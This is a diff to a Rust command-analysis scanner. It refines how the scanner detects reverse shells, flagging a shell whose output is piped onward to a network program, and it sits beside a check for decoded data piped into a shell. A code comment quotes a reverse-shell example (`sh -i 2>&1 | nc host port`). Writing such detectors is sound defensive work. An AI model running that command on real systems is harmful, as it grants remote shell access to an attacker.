@@ -93,7 +93,8 @@ fn whole_unit(u: &Unit, i: usize, t: &Table, p: &Paths, out: &mut Findings) {
             out.add(Stage::Targets, "obfuscation.decode_to_shell", Risk::High, unit, format!("pipes decoded data into `{}`: hidden code", u.base().unwrap_or("")));
         }
         let interactive = u.base().is_some_and(|b| SHELLS.contains(&b)) && u.argv.iter().skip(1).take_while(|a| a.text.starts_with('-')).any(|a| !a.text.starts_with("--") && a.text[1..].contains('i'));
-        let feeds_net = t.units.iter().any(|o| same_pipe(u, o) && o.effects.iter().any(|e| matches!(e, Effect::Net { .. })));
+        // The shell's output goes to a network program (`sh -i 2>&1 | nc host port`).
+        let feeds_net = t.units.iter().any(|o| same_pipe(u, o) && o.pipe.zip(u.pipe).is_some_and(|(x, y)| x.index > y.index) && o.effects.iter().any(|e| matches!(e, Effect::Net { .. })));
         if interactive || (feeds_net && u.pipe.is_some()) {
             out.add(Stage::Targets, "reverse_shell.pipe", Risk::High, unit, "an interactive shell, or a shell joined to a network connection");
         }
